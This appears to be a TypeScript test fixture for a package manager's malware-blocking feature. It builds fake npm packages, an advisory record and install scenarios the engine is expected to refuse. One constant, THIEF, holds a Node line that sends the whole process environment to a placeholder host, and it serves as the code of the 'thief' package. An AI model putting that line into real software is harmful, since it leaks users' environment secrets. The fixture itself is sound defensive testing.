import { createHash } from 'node:crypto';

import { tarball } from '../../engine/test/registry.ts';
import type { FakePackage, FakeVersion } from '../../engine/test/registry.ts';

/** What stands in a file of every version that must never arrive. */
export const REFUSED = 'marked-as-refused-1f9c';
/** What stands in every archive that is not what its registry promised. */
export const UNVERIFIED = 'marked-as-unverified-7d2e';

/** An archive that nobody promised. */
export const OTHER_ARCHIVE: Buffer = tarball({ 'package.json': { name: 'other', version: '1.0.0' }, 'index.js': `// ${UNVERIFIED}\n` });

/** What is installed in one round, and what has to come of it where nothing fails. */
export interface Project {
  readonly what: string;
  readonly manifest: object;
  /** A lockfile, for what installs by it alone. */
  readonly lockfile?: object;
  /** Versions that are there at the end, by name; none where the install is refused. */
  readonly comes: Readonly<Record<string, string>> | undefined;
  /** How many documents and archives a client asks for, about. */
  readonly asks: readonly [documents: number, archives: number];
}

/** The packages of one round: nobody has asked for their names before. */
export interface Tree {
  readonly packages: Readonly<Record<string, FakePackage>>;
  readonly projects: readonly [Project, ...Project[]];
  /** The name of one that turns into something else between two requests, and what it is then. */
  readonly turns: { readonly name: string; readonly into: FakePackage };
}

/** A record of malware about the packages of all rounds; those that are good join them in the records that come later. */
export function condemned(rounds: number, withGood: boolean): object {
  const one = (name: string, version: string): object => ({ package: { ecosystem: 'npm', name }, versions: [version] });
  const affected = Array.from({ length: rounds }, (_, round) => [
    one(`bad-${round}`, BAD),
    ...(withGood ? [one(`good-${round}`, '1.0.0')] : []),
  ]);
  return { id: 'MAL-2026-1', summary: 'Malicious code', affected: affected.flat() };
}

const BAD = '6.6.6';
const OLD = '2025-01-01T00:00:00.000Z';
/** What it would do is nothing: the host does not exist. That it would is what the examination finds. */
const THIEF = `require('https').request('https://collect.invalid/?' + JSON.stringify(process.env)).end();\n`;
const HARMLESS = 'exports.sum = (a, b) => a + b;\n';

/** Makes the packages of a round, with their archives below an address. */
export function treeOf(round: number, registry: string): Tree {
  const named = (name: string): string => `${name}-${round}`;
  const mark = { 'mark.txt': `${REFUSED} ${round}\n` };
  const version = (name: string, number: string, more: Partial<FakeVersion> & { readonly needs?: object } = {}): FakeVersion => ({
    publishedAt: more.publishedAt ?? OLD,
    files: filesOf(named(name), number, more),
    manifest: { dependencies: more.needs ?? {}, dist: { tarball: `${registry}${named(name)}/-/${named(name)}-${number}.tgz` } },
  });
  const packages: Record<string, FakePackage> = {
    [named('good')]: { versions: { '1.0.0': version('good', '1.0.0') } },
    [named('whole')]: { versions: { '1.0.0': version('whole', '1.0.0', { needs: { [named('good')]: '^1.0.0' } }) } },
    [named('bad')]: { versions: { '1.0.0': version('bad', '1.0.0'), [BAD]: version('bad', BAD, { files: mark }) } },
    [named('carrier')]: { versions: { '1.0.0': version('carrier', '1.0.0', { needs: { [named('bad')]: BAD } }) } },
    [named('thief')]: { versions: { '1.0.0': version('thief', '1.0.0', { files: { ...mark, 'index.js': THIEF } }) } },
    [named('young')]: {
      versions: {
        '1.0.0': version('young', '1.0.0'),
        [BAD]: version('young', BAD, { files: mark, publishedAt: new Date(Date.now() - 3_600_000).toISOString() }),
      },
    },
  };
  const good = named('good');
  const into = { versions: { '1.0.0': version('good', '1.0.0', { files: { ...mark, 'index.js': THIEF } }) } };
  return { packages, projects: projectsOf(named, packages), turns: { name: good, into } };
}

/** As npm writes it, without addresses: then it asks for a version by its number. */
function lockOf(packages: Tree['packages'], needs: Readonly<Record<string, string>>): object {
  const locked = Object.entries(packages).flatMap(([name, { versions }]) => {
    const version = name in needs ? needs[name] : undefined;
    const files = version === undefined ? undefined : versions[version]?.files;
    if (files === undefined) return [];
    const integrity = `sha512-${createHash('sha512').update(tarball(files)).digest('base64')}`;
    return [[`node_modules/${name}`, { version, integrity, dependencies: Object(files['package.json']).dependencies }] as const];
  });
  const root = { name: 'app', version: '1.0.0', dependencies: needs };
  return { ...root, lockfileVersion: 3, requires: true, packages: { '': root, ...Object.fromEntries(locked) } };
}

function filesOf(
  name: string,
  version: string,
  { files, needs = {} }: Partial<FakeVersion> & { readonly needs?: object },
): NonNullable<FakeVersion['files']> {
  return { 'package.json': { name, version, main: 'index.js', dependencies: needs }, 'index.js': HARMLESS, ...files };
}

function projectsOf(named: (name: string) => string, packages: Tree['packages']): Tree['projects'] {
  const one = (name: string, version: string): object => ({ dependencies: { [named(name)]: version } });
  const all = { [named('whole')]: '1.0.0', [named('good')]: '1.0.0' };
  const whole: Project = { what: 'allowed', manifest: one('whole', '1.0.0'), comes: all, asks: [2, 2] };
  return [
    whole,
    { ...whole, what: 'allowed, locked', manifest: { dependencies: all }, lockfile: lockOf(packages, all) },
    { what: 'known bad', manifest: one('bad', BAD), comes: undefined, asks: [1, 0] },
    { what: 'known bad below', manifest: { dependencies: { ...all, [named('carrier')]: '1.0.0' } }, comes: undefined, asks: [4, 0] },
    {
      what: 'known bad, locked',
      manifest: one('bad', BAD),
      lockfile: lockOf(packages, { [named('bad')]: BAD }),
      comes: undefined,
      asks: [1, 0],
    },
    {
      what: 'known bad, another name',
      manifest: { dependencies: { alias: `npm:${named('bad')}@${BAD}` } },
      comes: undefined,
      asks: [1, 0],
    },
    { what: 'bad by its code', manifest: one('thief', '1.0.0'), comes: undefined, asks: [1, 1] },
    { what: 'bad by its code, among good', manifest: { dependencies: { ...all, [named('thief')]: '*' } }, comes: undefined, asks: [3, 3] },
    { what: 'too new', manifest: one('young', BAD), comes: undefined, asks: [1, 0] },
    { what: 'known bad is the newest', manifest: one('bad', '>=1'), comes: { [named('bad')]: '1.0.0' }, asks: [1, 1] },
    { what: 'too new is the newest', manifest: one('young', '*'), comes: { [named('young')]: '1.0.0' }, asks: [1, 1] },
    {
      what: 'known bad, optional',
      manifest: { dependencies: all, optionalDependencies: { [named('bad')]: BAD } },
      comes: all,
      asks: [3, 2],
    },
  ];
}
